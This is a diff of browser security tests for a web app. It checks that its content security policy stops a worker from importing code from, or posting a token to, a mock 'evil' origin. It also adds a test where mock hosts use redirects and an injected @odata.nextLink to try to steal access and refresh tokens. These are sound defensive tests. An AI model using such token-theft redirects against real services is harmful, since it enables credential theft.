@@ -1,9 +1,12 @@
 import { execFileSync } from 'node:child_process'
 import { existsSync, readdirSync } from 'node:fs'
-import { createServer, type Server } from 'node:http'
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Page } from '@playwright/test'
 import { answerFile, readStaticFiles, withFile } from '#sandbox-server/static-files.ts'
+import { removeServers, startServer } from '#tests/sandbox-server/child-server.ts'
+import { newDataFile } from '#tests/sandbox-server/data-files.ts'
+import { signInAt } from '#tests/sandbox-server/signed-in.ts'
 import { securityHeaders } from '../../tools/headers/security-headers.mjs'
 import { expect, journey } from './campus.ts'
 
@@ -16,10 +19,8 @@ declare global {
   }
 }
 
-/** The origins of a deployment, of its API and of its calendar. No server answers for the latter two. */
-const api = 'http://api.localhost:4901'
-const calendar = 'http://calendar.localhost:4902'
-const config = { apiURL: `${api}/`, calendarURL: `${calendar}/v1.0` }
+/** A deployment for whose API and calendar no server answers. */
+const unanswered = { apiURL: 'http://api.localhost:4901/', calendarURL: 'http://calendar.localhost:4902/v1.0' }
 
 const servers: Server[] = []
 
@@ -31,7 +32,7 @@ async function listen(answer: Parameters<typeof createServer>[1], host: string):
 }
 
 /** The production build, with the headers generated from its config.json or with none. Returns its origin. */
-async function deploy(isGuarded: boolean): Promise<string> {
+async function deploy(isGuarded: boolean, config = unanswered): Promise<string> {
   // `npm test` has built it before.
   if (!existsSync('dist/index.html')) execFileSync('npx', ['vite', 'build', '--logLevel', 'error'])
   const files = withFile(
@@ -66,6 +67,7 @@ async function openEvil() {
   return { origin, reached }
 }
 
+journey.afterAll(removeServers)
 journey.afterEach(() => servers.splice(0).forEach((server) => server.close().closeAllConnections()))
 
 type Attack = (evil: string) => unknown
@@ -186,26 +188,24 @@ journey('T9: nor does a script in the worker', async ({ page }) => {
       const policy = window.trustedTypes?.createPolicy('foyer-worker', rules) ?? rules
       Object.assign(window, { worker: new Worker(policy.createScriptURL(url), { type: 'module' }) })
     }, script)
-    return (await started).evaluate(
-      async ({ origin, isRefused }) => {
-        const violated: string[] = []
-        globalThis.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-          violated.push(effectiveDirective),
-        )
-        await import(`${origin}/import`).catch(() => undefined)
-        await fetch(`${origin}/fetched`, { method: 'POST', body: 'token' }).catch(() => undefined)
-        // They are reported a moment after the refusal.
-        for (let tries = 0; isRefused && violated.length < 2 && tries < 500; tries += 1)
-          await new Promise((resolve) => setTimeout(resolve, 10))
-        return violated
-      },
-      { origin: evil.origin, isRefused: isGuarded },
-    )
+    const worker = await started
+    await worker.evaluate(async (origin) => {
+      const violated: string[] = []
+      Object.assign(globalThis, { violated })
+      globalThis.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        violated.push(effectiveDirective),
+      )
+      await import(`${origin}/import`).catch(() => undefined)
+      await fetch(`${origin}/fetched`, { method: 'POST', body: 'token' }).catch(() => undefined)
+    }, evil.origin)
+    return () => worker.evaluate(() => (globalThis as unknown as { violated: string[] }).violated)
   }
-  expect(await attackIn(true)).toEqual(['script-src-elem', 'connect-src'])
+  // They are reported a moment after the refusal.
+  await expect.poll(await attackIn(true)).toEqual(['script-src-elem', 'connect-src'])
   expect([...evil.reached]).toEqual([])
-  expect(await attackIn(false)).toEqual([])
+  const violated = await attackIn(false)
   expect([...evil.reached]).toEqual(['import', 'fetched'])
+  expect(await violated()).toEqual([])
 })
 
 journey('T14: another site cannot frame the page, nor keep hold of one that it opens', async ({ page }) => {
@@ -231,4 +231,73 @@ journey('T14: another site cannot frame the page, nor keep hold of one that it o
   }
   expect(await holds(true)).toEqual({ framed: false, isHeld: false })
   expect(await holds(false)).toEqual({ framed: true, isHeld: true })
+})
+
+interface Answer {
+  readonly status: number
+  readonly location?: string
+  /** Changes the text that was passed on. */
+  readonly edit?: (text: string) => string
+}
+
+/** A host of the deployment. It passes a request on unless `answer` has an answer, and remembers all that it was sent. */
+async function openHost(name: string, below: string, answer: (path: string, token: string) => Partial<Answer> | null) {
+  const received: string[] = []
+  const tokens = new Set<string>()
+  const serve = async (request: IncomingMessage, response: ServerResponse) => {
+    const { url = '/', method = 'GET', headers } = request
+    const body = Buffer.concat(await request.toArray())
+    const { origin = '*', authorization = '', 'access-control-request-headers': asked = '*' } = headers
+    const token = authorization.replace('Bearer ', '')
+    if (token !== '') tokens.add(token)
+    received.push(`${url} ${JSON.stringify(headers)} ${body.toString()}`)
+    const { status, location, edit } = (method === 'OPTIONS' ? { status: 204 } : answer(url, token)) ?? {}
+    const sent = { method, headers: { authorization, 'content-type': 'application/json' } }
+    const passed = status ? null : await fetch(below + url, body.length > 0 ? { ...sent, body } : sent)
+    const text = (await passed?.text()) ?? ''
+    response.writeHead(status ?? passed?.status ?? 500, {
+      'content-type': 'application/json',
+      'access-control-allow-origin': origin,
+      'access-control-allow-headers': asked,
+      'access-control-allow-methods': '*',
+      ...(location === undefined ? {} : { location }),
+    })
+    response.end(edit ? edit(text) : text)
+  }
+  return { origin: await listen((request, response) => void serve(request, response), name), received, tokens }
+}
+
+journey('T4: no host gets the secrets of another that asks for them', async ({ page }) => {
+  const sandbox = await startServer(['--port', '0', '--data', newDataFile()], 'tools/sandbox-server.mjs')
+  const { token, refreshToken } = await signInAt(sandbox.origin)
+  // The calendar says that the next page of events is at the API.
+  const withNext = (text: string) => JSON.stringify({ ...JSON.parse(text), '@odata.nextLink': `${api.origin}/stolen` })
+  const calendar = await openHost('calendar.localhost', `${sandbox.origin}/services/graph.microsoft.com`, (path) =>
+    path.includes('/calendarView') ? { edit: withNext } : null,
+  )
+  // The API refuses the token, and sends the first request for another one to the calendar.
+  const redirects = [{ status: 307, location: `${calendar.origin}/stolen` }]
+  const api = await openHost('api.localhost', `${sandbox.origin}/sandbox-api`, (path, used) => {
+    if (path === '/api/account/refresh') return redirects.pop() ?? null
+    return used === token ? { status: 401 } : null
+  })
+  await page.addInitScript(
+    (stored) => {
+      if (localStorage.length === 0) Object.assign(localStorage, stored)
+    },
+    { api_token: token, api_refresh_token: refreshToken, 'assist-session': '1' },
+  )
+  await page.goto(
+    `${await deploy(true, { apiURL: `${api.origin}/`, calendarURL: `${calendar.origin}/v1.0` })}/reservations`,
+  )
+  await page.getByRole('button', { name: 'Try again' }).click()
+  await expect(page.getByRole('heading', { level: 1, name: 'Reservations' })).toBeVisible()
+  await expect(page.getByRole('alert')).toBeVisible()
+
+  // The token and the one that replaced it, and that of the calendar.
+  expect([api.tokens.size, calendar.tokens.size]).toEqual([2, 1])
+  const [sentToApi, sentToCalendar] = [api, calendar].map(({ received }) => received.join('\n'))
+  for (const secret of [refreshToken, ...api.tokens]) expect(sentToCalendar).not.toContain(secret)
+  for (const secret of calendar.tokens) expect(sentToApi).not.toContain(secret)
+  expect(`${sentToApi}${sentToCalendar}`).not.toContain('stolen')
 })
